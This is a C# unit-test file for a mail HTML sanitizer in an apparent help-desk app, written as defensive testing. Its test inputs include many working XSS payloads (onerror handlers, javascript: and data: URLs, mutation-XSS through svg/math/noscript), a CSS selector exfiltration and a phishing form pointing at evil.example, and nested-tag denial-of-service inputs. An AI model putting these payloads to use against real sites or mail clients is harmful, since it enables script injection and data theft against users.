using System.Diagnostics;
using WorkflowDesk.Desk.Mail;

namespace WorkflowDesk.Desk.Tests.Mail;

public sealed class SafeHtmlTests
{
    [Theory]
    [InlineData("<p>ok<script>alert(1)</script></p>", "<p>ok</p>")]
    [InlineData("<img src=x onerror=alert(1)>", "")]
    [InlineData("<b onclick=\"alert(1)\">b</b>", "<b>b</b>")]
    [InlineData("<svg><script>alert(1)</script><a href='javascript:1'>x</a></svg>after", "after")]
    [InlineData("<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>after", "after")]
    [InlineData("<iframe src=https://evil.example></iframe>after", "after")]
    [InlineData("<object data=a.swf><p>inside</p></object>after", "after")]
    [InlineData("<form action=https://evil.example><input name=password>Password</form>", "Password")]
    [InlineData("<style>*{display:none}</style>text", "text")]
    [InlineData("<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>x", "x")]
    [InlineData("<template><b>x</b></template>a<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">y</noscript>z", "a<p title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\">yz</p>")]
    [InlineData("<!--[if mso]><b>office</b><![endif]-->plain", "plain")]
    [InlineData("<table><tr><td colspan=2 width=9 onload=x>c</td></tr></table>", "<table><tbody><tr><td colspan=\"2\">c</td></tr></tbody></table>")]
    [InlineData("<p>1 < 2 & 3 > 2 \"q\"</p>", "<p>1 &lt; 2 &amp; 3 &gt; 2 &quot;q&quot;</p>")]
    [InlineData("<unknown-tag>text stays</unknown-tag>", "text stays")]
    [InlineData("<div id=x class=y data-z=1 contenteditable>d</div>", "<div>d</div>")]
    [InlineData("<button formaction=javascript:alert(1)>b</button><details open ontoggle=alert(1)>d</details>", "d")]
    public void Only_harmless_tags_and_attributes_pass(string hostile, string expected) =>
        Assert.Equal(expected, SafeHtml.Clean(hostile).Html);

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData("JaVaScRiPt:alert(1)")]
    [InlineData("java\nscript:alert(1)")]
    [InlineData("&#106;avascript:alert(1)")]
    [InlineData(" \u0001javascript:alert(1)")]
    [InlineData("data:text/html,<script>alert(1)</script>")]
    [InlineData("vbscript:x")]
    [InlineData("file:///etc/passwd")]
    [InlineData("//evil.example/x")]
    [InlineData("/api/session")]
    [InlineData("blob:https://x.example/1")]
    public void A_link_that_is_no_web_or_mail_address_leads_nowhere(string address)
    {
        var clean = SafeHtml.Clean($"<a href=\"{address}\">go</a>").Html;
        Assert.DoesNotContain("href", clean, StringComparison.Ordinal);
        Assert.Contains(">go</a>", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void A_web_link_opens_outside_and_tells_nothing_about_us() => Assert.Equal(
        "<a href=\"https://corp.example/a?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">go</a>",
        SafeHtml.Clean("<a href=\"https://corp.example/a?b=1&amp;c=2\" target=_self onclick=x()>go</a>").Html);

    [Theory]
    [InlineData("color:red;position:fixed;top:0", "color:red;")]
    [InlineData("background-color:url(https://evil.example/x)", "")]
    [InlineData("color:expression(alert(1))", "")]
    [InlineData("color:rgb(1, 2, 3);font-size:12px", "color:rgb(1, 2, 3);font-size:12px;")]
    [InlineData("width:\\65xpression(alert(1))", "")]
    [InlineData("margin-top:-900px;margin-left:4px", "margin-left:4px;")]
    [InlineData("border-left:1px solid #ccc !important", "border-left:1px solid #ccc !important;")]
    [InlineData("background:url(x);display:none;opacity:0", "")]
    public void Styles_are_limited_to_looks(string style, string expected)
    {
        var clean = SafeHtml.Clean($"<span style=\"{style}\">x</span>").Html;
        Assert.Equal(expected.Length == 0 ? "<span>x</span>" : $"<span style=\"{expected}\">x</span>", clean);
    }

    [Fact]
    public void Remote_pictures_are_counted_and_not_loaded()
    {
        var clean = SafeHtml.Clean("<img src=https://track.example/p.gif alt=\"our <logo>\"><img src=\"data:image/svg+xml;base64,AAAA\">");
        Assert.Equal("[our &lt;logo&gt;]", clean.Html);
        Assert.Equal(2, clean.BlockedImages);
    }

    [Theory]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<noscript><style></noscript><img src=x onerror=alert(1)>")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=https://evil.example/>")]
    [InlineData("<style>@import url(https://evil.example/x.css);input[value^=a]{background:url(https://evil.example/a)}</style>")]
    [InlineData("<div style=\"background:url('https://evil.example/p.gif')\">x</div><table background=https://evil.example/p.gif><tr><td>y</table>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a><a href='java&#10;script:alert(1)'>y</a><area href=javascript:1><a xlink:href=javascript:1>z</a>")]
    [InlineData("<video poster=https://evil.example/p><source onerror=alert(1)></video><audio src=x onerror=alert(1)>")]
    [InlineData("<img srcset=\"https://evil.example/p 1x\" src=\"x\"><picture><source srcset=https://evil.example/p></picture><input type=image src=https://evil.example/p>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=data:text/html,x></object><embed src=//evil.example>")]
    [InlineData("<p title='\"><script>alert(1)</script>'>x</p><!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>")]
    [InlineData("<form action=https://evil.example><button formaction=javascript:alert(1)>x</button><isindex action=javascript:1>")]
    public void Nothing_that_acts_or_loads_comes_through_and_cleaning_again_changes_nothing(string hostile)
    {
        var clean = SafeHtml.Clean(hostile).Html;
        var parsed = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + clean);
        foreach (var element in parsed.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, (IEnumerable<string>)["script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "link", "video", "audio", "source"]);
            Assert.DoesNotContain(element.Attributes, attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name is "srcset" or "srcdoc" or "background" or "action" or "id");
            Assert.DoesNotContain(element.Attributes, attribute => attribute.Name is "src" or "href" or "style" && (attribute.Value.Contains("evil.example", StringComparison.Ordinal) || attribute.Value.Contains("script", StringComparison.OrdinalIgnoreCase)));
        }

        Assert.Equal(clean, SafeHtml.Clean(clean).Html);
    }

    [Fact]
    public void Pictures_from_elsewhere_are_shown_to_a_reader_who_asked()
    {
        const string Mail = "<img src=\"https://pics.example/a.png?x=1&amp;y=2\" onload=x><img src=\"http:alert\"><img src=\"/api/me\"><img src=\"javascript:1\">";
        Assert.Equal("<img src=\"https://pics.example/a.png?x=1&amp;y=2\" alt=\"\" referrerpolicy=\"no-referrer\">", SafeHtml.Clean(Mail, remoteImages: true).Html);
        Assert.Equal("", SafeHtml.Clean(Mail).Html);
    }

    [Fact]
    public void Pictures_that_came_with_the_mail_are_shown()
    {
        var clean = SafeHtml.Clean(
            "<img src=\"cid:shot@corp\" width=40 height=-3 onerror=x alt='\"'><img src=cid:gone><img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            id => id == "shot@corp" ? "/attachments/1" : null);
        Assert.Equal("<img src=\"/attachments/1\" alt=\"&quot;\" width=\"40\"><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"\">", clean.Html);
        Assert.Equal(1, clean.BlockedImages);
    }

    [Fact]
    public void What_was_cleaned_once_stays_the_same()
    {
        const string Mail = "<div style=\"color:#333\"><p>你好&nbsp;<b>大家</b></p><table><tr><td>a</td></tr></table><ul><li>x<li>y</ul></div>";
        var once = SafeHtml.Clean(Mail).Html;
        Assert.Equal(once, SafeHtml.Clean(once).Html);
    }

    public static TheoryData<string, string> Bombs => new()
    {
        { "nested divs", string.Concat(Enumerable.Repeat("<div>", 100_000)) + "text" },
        { "nested tables", string.Concat(Enumerable.Repeat("<table><tr><td>", 30_000)) + "text" },
        { "formats repeated in every block", "<div>" + string.Concat(Enumerable.Range(0, 200).Select(i => $"<b id={i}>")) + "</div>" + string.Concat(Enumerable.Repeat("<div>x</div>", 50_000)) + "text" },
        { "unclosed tags", string.Concat(Enumerable.Repeat("<a href='", 100_000)) + "text" },
        { "brackets", new string('<', 1_000_000) + "text" },
        { "attributes", "<p " + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"a{i}=1 ")) + ">text" },
    };

    [Theory]
    [MemberData(nameof(Bombs))]
    public void Html_made_to_hurt_is_answered_in_seconds(string what, string html)
    {
        var started = Stopwatch.GetTimestamp();
        Assert.NotNull(SafeHtml.Clean(html).Html);
        Assert.NotNull(SafeHtml.ToText(html));
        var took = Stopwatch.GetElapsedTime(started);
        Assert.True(took < TimeSpan.FromSeconds(15), $"{what} took {took}.");
    }

    [Fact]
    public void Words_of_html_become_lines() => Assert.Equal(
        "您好，\n\n系统 登录 失败。\n第二行\n甲 乙",
        SafeHtml.ToText("<html><head><title>t</title><style>p{}</style></head><body><p>您好，</p><p>系统&nbsp;<b>登录</b>\n失败。<br>第二行</p><table><tr><td>甲</td><td>乙</td></tr></table></body></html>")
            .Replace("\n\n甲", "\n甲", StringComparison.Ordinal));
}
